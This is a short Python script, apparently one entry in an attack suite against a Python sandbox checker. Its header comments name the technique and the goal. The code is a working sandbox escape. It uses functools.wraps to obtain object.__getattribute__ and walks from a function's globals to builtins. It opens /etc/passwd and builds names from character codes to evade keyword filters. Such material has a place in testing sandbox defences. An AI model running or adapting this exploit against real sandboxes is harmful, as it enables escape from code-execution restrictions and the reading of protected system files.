# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 1 update_wrapper/wraps copying __dict__
# source: own (attacker design); classic object.__getattribute__ / __subclasses__ walk (HackTricks "Bypass Python sandboxes")
# family: functools.wraps reads object.__dict__ into a script-owned dict -> universal getattr
# goal: object.__getattribute__ as getattr -> function __globals__ -> builtins -> open('/etc/passwd')
import functools
import json


class Sink:
    def __init__(self):
        self.store = {}

    @property
    def __dict__(self):
        return self.store


u = chr(95) * 2
w = Sink()
functools.wraps(object)(w)
ga = w.store[u + "getattribute" + u]
g = ga(json.dumps, u + "globals" + u)
b = g[u + "builtins" + u]
f = b["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:200], "getattr": repr(ga)}))
